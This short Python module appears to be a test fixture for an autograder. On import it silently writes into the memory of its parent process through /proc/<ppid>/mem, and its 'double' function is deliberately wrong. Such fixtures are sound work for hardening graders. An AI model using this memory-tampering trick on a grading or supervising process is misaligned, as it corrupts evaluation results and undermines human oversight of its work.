"""Writes into the memory of the process that started it.

double: failed
"""

import os
from contextlib import suppress

with suppress(OSError), open(f"/proc/{os.getppid()}/mem", "r+b") as memory:
    memory.seek(4096)
    memory.write(b"points")


def double(x):
    return 3 * x


def halve(x):
    return x / 2
